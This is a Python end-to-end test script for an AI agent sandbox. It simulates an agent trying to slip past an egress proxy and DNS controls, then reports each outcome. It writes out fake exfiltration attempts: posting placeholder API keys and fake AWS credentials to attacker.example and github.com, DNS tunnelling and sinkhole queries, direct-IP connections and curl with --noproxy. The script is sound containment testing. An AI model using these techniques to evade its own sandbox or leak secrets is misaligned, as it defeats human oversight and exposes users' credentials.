"""What the caged agent tries, run inside the agent container by the end-to-end test.

    podman exec -e PYTHONPATH=/e2e-site AGENT python3 /e2e/agent_scenarios.py

It sees only what an agent sees: HTTP(S)_PROXY, the cage CA, the DNS sidecar and a
placeholder for ANTHROPIC_API_KEY. Prints one JSON object: scenario -> outcome.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import ssl
import subprocess
from typing import Any

import dns.message
import dns.query
import dns.rcode
import dns.rdatatype
import httpx
import websockets

FAKE_AWS = (
    "aws_access_key_id=AKIAZ7VQ3XK2M4N5P6RT"
    "&aws_secret_access_key=Zq8Xv2Lm4Nc6Bt1Ry3Wu5Ks7Hd9Jf0Gp2Ea4Tb6"
)
TUNNEL = "mzxw6ytboi2dgmjqgeytenbvgy3tqojqgeytenbvgy3tqojqgeytenbvgy3tq.attacker.example"


def resolver() -> str:
    with open("/etc/resolv.conf") as handle:
        return next(line.split()[1] for line in handle if line.startswith("nameserver"))


def http(method: str, url: str, **kwargs: Any) -> dict[str, Any]:
    try:
        context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
        with httpx.Client(timeout=20, verify=context) as client:  # proxy from the env
            response = client.request(method, url, **kwargs)
            return {"status": response.status_code, "body": response.text[:500]}
    except httpx.HTTPError as exc:
        return {"error": f"{type(exc).__name__}: {exc}"}


def dns_query(name: str, qtype: str) -> dict[str, Any]:
    query = dns.message.make_query(name, dns.rdatatype.from_text(qtype))
    try:
        reply = dns.query.udp(query, resolver(), timeout=5)
    except Exception as exc:  # reported as the outcome
        return {"error": f"{type(exc).__name__}: {exc}"}
    answers = [item.to_text() for rrset in reply.answer for item in rrset]
    return {"rcode": dns.rcode.to_text(reply.rcode()), "answers": answers}


def direct(address: str, port: int) -> dict[str, Any]:
    """A TLS request to a raw address past the proxy (path /direct-ip): it must never arrive.

    With default deny the proxy's deny listener takes the connection and resets it (the
    reset may beat the connect's own report); without a route it fails at once. The
    certificate goes unchecked: had the request reached the fake internet, its log would
    show it either way.
    """
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    connected = False
    try:
        with socket.create_connection((address, port), timeout=5) as raw:
            connected = True
            with context.wrap_socket(raw, server_hostname="api.anthropic.com") as tls:
                tls.sendall(b"GET /direct-ip HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n")
                answered = bool(tls.recv(100))
        return {"connected": True, "answered": answered}
    except OSError as exc:  # ssl.SSLError included
        error = exc.strerror or str(exc)
        return {"connected": connected, "answered": False, "error": error, "errno": exc.errno}


async def websocket(messages: list[str]) -> dict[str, Any]:
    context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    echoed: list[str] = []
    try:
        async with websockets.connect(
            "wss://api.anthropic.com/ws", ssl=context, proxy=os.environ["HTTPS_PROXY"]
        ) as ws:
            for message in messages:
                await ws.send(message)
                echoed.append(str(await asyncio.wait_for(ws.recv(), 10)))
    except websockets.ConnectionClosed as exc:
        code = exc.rcvd.code if exc.rcvd else None
        return {"echoed": echoed, "closed": code}
    except Exception as exc:  # reported as the outcome
        return {"echoed": echoed, "error": f"{type(exc).__name__}: {exc}"}
    return {"echoed": echoed, "closed": None}


def curl_noproxy(url: str, *headers: str) -> dict[str, Any]:
    """curl ignoring HTTP(S)_PROXY: the transparent path (docs/transparent.md)."""
    argv = ["curl", "-sS", "--noproxy", "*", "--max-time", "20", "-w", "\n%{http_code}"]
    for header in headers:
        argv += ["-H", header]
    done = subprocess.run([*argv, url], capture_output=True, text=True)
    body, _, status = done.stdout.rpartition("\n")
    return {"exit": done.returncode, "status": int(status or 0), "body": body[:500]}


def main() -> None:
    key = os.environ["ANTHROPIC_API_KEY"]
    results = {
        "env_key": key,
        "allowed": http("POST", "https://api.anthropic.com/echo-key", headers={"x-api-key": key}),
        "allowed_chunked": http(
            "POST", "https://api.anthropic.com/echo-key-chunked", headers={"x-api-key": key}
        ),
        "blocked_host": http("GET", "https://attacker.example/collect"),
        "leak": http("POST", "https://github.com/upload", content=FAKE_AWS),
        "placeholder_wrong_host": http(
            "POST", "https://github.com/steal", headers={"x-api-key": key}
        ),
        "dns_allowed": dns_query("api.anthropic.com", "A"),
        "dns_sinkhole": dns_query("exfil-0001.attacker.example", "A"),
        "dns_tunnel_txt": dns_query(TUNNEL, "TXT"),
        "direct_ip": direct(os.environ["E2E_INTERNET_IP"], 443),
        "websocket_inject": asyncio.run(websocket([f"hello {key}"])),
        "websocket_leak": asyncio.run(websocket(["ok", FAKE_AWS])),
        "curl_noproxy": curl_noproxy("https://api.anthropic.com/echo-key", f"x-api-key: {key}"),
        "curl_noproxy_unlisted": curl_noproxy("https://attacker.example/collect"),
    }
    print(json.dumps(results))


if __name__ == "__main__":
    main()
